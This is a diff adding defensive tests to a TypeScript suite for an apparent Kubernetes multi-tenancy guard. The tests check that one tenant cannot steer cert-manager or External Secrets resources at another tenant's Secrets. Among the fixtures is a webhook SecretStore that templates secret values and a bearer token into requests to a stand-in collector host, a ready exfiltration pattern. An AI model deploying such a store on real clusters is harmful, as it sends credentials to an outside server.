@@ -96,6 +96,7 @@ const SECRET_STORES = (ns: string) => `/apis/${ESO_GROUP}/v1/namespaces/${ns}/se
 const esoCrd = (plural: string, kind: string) => standInCrd({ group: ESO_GROUP, version: 'v1', plural, kind });
 const GENERATORS_GROUP = 'generators.external-secrets.io';
 const ECR_TOKENS = (ns: string) => `/apis/${GENERATORS_GROUP}/v1alpha1/namespaces/${ns}/ecrauthorizationtokens`;
+const PUSH_SECRETS = (ns: string) => `/apis/${ESO_GROUP}/v1alpha1/namespaces/${ns}/pushsecrets`;
 /** An ECR generator authenticating with these Secrets' AWS keys. */
 const ecrToken = (name: string, secret: string) => ({ apiVersion: `${GENERATORS_GROUP}/v1alpha1`, kind: 'ECRAuthorizationToken', metadata: { name }, spec: { region: 'eu-west-1', auth: { secretRef: { accessKeyIDSecretRef: { name: secret, key: 'token' }, secretAccessKeySecretRef: { name: secret, key: 'token' } } } } });
 /** A SecretStore that authenticates to Vault with the token in `secret`. */
@@ -396,6 +397,8 @@ export function pointerCases(suite: () => Suite): void {
       // An UPDATE that moves beta's stored Certificate onto alpha's Issuer.
       ok("beta's own Certificate", await s.api(beta, 'POST', CERTIFICATES(CM_NS), certificate('beta-moved', { name: 'beta-ca' })));
       refused(await s.api(beta, 'PATCH', `${CERTIFICATES(CM_NS)}/beta-moved`, { spec: { issuerRef: { name: 'alpha-ca' } } }, MERGE), 'reference.cross-environment', /names Issuer alpha-ca/);
+      // Nor have cert-manager encrypt beta's keystore with alpha's password, which beta could then guess at offline.
+      refused(await s.api(beta, 'PATCH', `${CERTIFICATES(CM_NS)}/beta-moved`, { spec: { keystores: { pkcs12: { create: true, passwordSecretRef: { name: 'alpha-tls', key: 'tls.key' } } } } }, MERGE), 'reference.cross-environment', /spec\.keystores\.pkcs12\.passwordSecretRef\.name: names Secret alpha-tls, which belongs to another environment/);
     });
 
     test("beta's Certificate may not have cert-manager write over the unstamped Secret cert-manager made for alpha", async () => {
@@ -490,6 +493,7 @@ export function pointerCases(suite: () => Suite): void {
       ok('namespace', await s.api(s.admin, 'POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ESO_NS, labels: { 'deed.dev/sandbox': 'enabled' } } }));
       ok('default service account', await s.api(s.admin, 'POST', `/api/v1/namespaces/${ESO_NS}/serviceaccounts`, { metadata: { name: 'default' } }));
       for (const [plural, kind] of [['externalsecrets', 'ExternalSecret'], ['secretstores', 'SecretStore']] as const) ok(`CRD ${plural}`, await s.api(s.admin, 'POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', esoCrd(plural, kind)));
+      ok('CRD pushsecrets', await s.api(s.admin, 'POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', standInCrd({ group: ESO_GROUP, version: 'v1alpha1', plural: 'pushsecrets', kind: 'PushSecret' })));
       ok('CRD ecrauthorizationtokens', await s.api(s.admin, 'POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', standInCrd({ group: GENERATORS_GROUP, version: 'v1alpha1', plural: 'ecrauthorizationtokens', kind: 'ECRAuthorizationToken' })));
       beta = await s.newIdentity('sandbox-b', 'eso-admin');
       alpha = s.runnerA.identity;
@@ -536,6 +540,31 @@ export function pointerCases(suite: () => Suite): void {
       refused(await s.api(beta, 'POST', EXTERNAL_SECRETS(ESO_NS), generated('beta-registry', 'alpha-ecr')), 'reference.cross-environment', /spec\.dataFrom\[0\]\.sourceRef\.generatorRef: names ECRAuthorizationToken alpha-ecr, which belongs to another environment \(the External Secrets operator runs the generator/);
       const own = await s.api(beta, 'POST', EXTERNAL_SECRETS(ESO_NS), generated('beta-registry', 'beta-ecr'));
       assert.equal(own.status, 201, own.text);
+    });
+
+    test("beta's SecretStore may not hand alpha's Secret to a webhook or a GitLab of its choosing, nor use a provider Deed does not know, nor its PushSecret push what alpha's generator makes; beta's own and a fake store are stored", async () => {
+      const s = suite();
+      const store = (name: string, provider: Record<string, unknown>) => ({ apiVersion: `${ESO_GROUP}/v1`, kind: 'SecretStore', metadata: { name }, spec: { provider } });
+      // The webhook provider templates the Secret's keys into a request to its URL: the writer's server.
+      const webhook = (secret: string) => ({ webhook: { url: 'https://collector.beta.example/{{ .remoteRef.key }}', headers: { Authorization: 'Bearer {{ .auth.token }}' }, result: { jsonPath: '$.value' }, secrets: [{ name: 'auth', secretRef: { name: secret } }] } });
+      refused(await s.api(beta, 'POST', SECRET_STORES(ESO_NS), store('beta-webhook', webhook('alpha-vault-token'))), 'reference.cross-environment', /spec\.provider\.webhook\.secrets\[0\]\.secretRef\.name: names Secret alpha-vault-token, which belongs to another environment/);
+      refused(await s.api(beta, 'POST', `${SECRET_STORES(ESO_NS)}?dryRun=All`, store('beta-webhook', webhook('alpha-vault-token'))), 'reference.cross-environment', /alpha-vault-token/);
+      refused(await s.api(beta, 'POST', SECRET_STORES(ESO_NS), store('beta-gitlab', { gitlab: { url: 'https://gitlab.beta.example', projectID: '1', auth: { SecretRef: { accessToken: { name: 'alpha-vault-token', key: 'token' } } } } })), 'reference.cross-environment', /spec\.provider\.gitlab\.auth\.SecretRef\.accessToken\.name: names Secret alpha-vault-token/);
+      // A provider Deed does not list: which of its fields name Secrets is not known.
+      refused(await s.api(beta, 'POST', SECRET_STORES(ESO_NS), store('beta-unknown', { futurevault: { auth: { apiKey: { name: 'alpha-vault-token', key: 'token' } } } })), 'reference.unknown', /spec\.provider\.futurevault: .*a provider whose fields Deed does not know/);
+      ok("beta's webhook store of its own Secret", await s.api(beta, 'POST', SECRET_STORES(ESO_NS), store('beta-webhook', webhook('beta-vault-token'))));
+      ok("beta's fake store", await s.api(beta, 'POST', SECRET_STORES(ESO_NS), store('beta-fake', { fake: { data: [{ key: 'db/password', value: 'not-a-secret' }] } })));
+      // Nor swap alpha's Secret in later, by a merge patch of its own store.
+      refused(await s.api(beta, 'PATCH', `${SECRET_STORES(ESO_NS)}/beta-webhook`, { spec: { provider: { webhook: { secrets: [{ name: 'auth', secretRef: { name: 'alpha-vault-token' } }] } } } }, 'application/merge-patch+json'), 'reference.cross-environment', /alpha-vault-token/);
+      // A PushSecret's generator runs with the generator's credentials, and pushes what it makes to the PushSecret's stores.
+      await eventually('the generator kind is served', async () => (await s.api(s.admin, 'GET', ECR_TOKENS(ESO_NS))).status === 200);
+      const alphaEcr = await s.api(alpha, 'POST', ECR_TOKENS(ESO_NS), ecrToken('alpha-push-ecr', 'alpha-vault-token'));
+      assert.equal(alphaEcr.status, 201, alphaEcr.text);
+      ok("beta's generator", await s.api(beta, 'POST', ECR_TOKENS(ESO_NS), ecrToken('beta-push-ecr', 'beta-vault-token')));
+      const push = (name: string, generator: string) => ({ apiVersion: `${ESO_GROUP}/v1alpha1`, kind: 'PushSecret', metadata: { name }, spec: { secretStoreRefs: [{ name: 'beta-webhook', kind: 'SecretStore' }], selector: { generatorRef: { apiVersion: `${GENERATORS_GROUP}/v1alpha1`, kind: 'ECRAuthorizationToken', name: generator } }, data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'pushed' } } }] } });
+      await eventually('the PushSecret kind is served', async () => (await s.api(s.admin, 'GET', PUSH_SECRETS(ESO_NS))).status === 200);
+      refused(await s.api(beta, 'POST', PUSH_SECRETS(ESO_NS), push('beta-push', 'alpha-push-ecr')), 'reference.cross-environment', /spec\.selector\.generatorRef: names ECRAuthorizationToken alpha-push-ecr, which belongs to another environment/);
+      ok("beta's PushSecret of its own generator", await s.api(beta, 'POST', PUSH_SECRETS(ESO_NS), push('beta-push', 'beta-push-ecr')));
     });
 
     test("beta may not move the platform's ExternalSecret, which writes into alpha's Secret, onto its own store", async () => {
